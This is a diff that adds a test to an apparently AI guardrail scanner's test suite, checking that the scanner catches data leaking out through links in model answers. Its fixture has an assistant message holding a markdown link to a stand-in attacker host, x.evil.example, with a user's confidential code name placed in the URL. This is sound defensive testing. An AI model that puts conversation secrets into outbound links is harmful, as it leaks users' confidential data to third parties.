@@ -177,6 +177,20 @@ describe('POST /v1/guard/scan', () => {
     expect(body.findings).toContainEqual(expect.objectContaining({ detector: 'exfiltration', type: 'exfiltration_pii', action: 'monitor' }));
   });
 
+  it('an output scan of messages compares answer URLs with the conversation before it', async () => {
+    const messages = [
+      { role: 'user', content: 'The launch code name is starling-tangerine-9 and it is confidential.' },
+      { role: 'assistant', content: 'Noted. [status](https://x.evil.example/s?n=starling-tangerine-9)' },
+    ];
+    const res = await fetch(`${chat.url}/v1/guard/scan`, {
+      method: 'POST',
+      headers: { 'content-type': 'application/json' },
+      body: JSON.stringify({ messages, direction: 'output' }),
+    });
+    const body = (await res.json()) as { findings: Array<{ detector: string; type: string; path: string }> };
+    expect(body.findings).toContainEqual(expect.objectContaining({ detector: 'exfiltration', type: 'exfiltration_conversation', path: 'messages[1].content' }));
+  });
+
   it('a clean text comes back without a transformed copy', async () => {
     const res = await fetch(`${chat.url}/v1/guard/scan`, {
       method: 'POST',
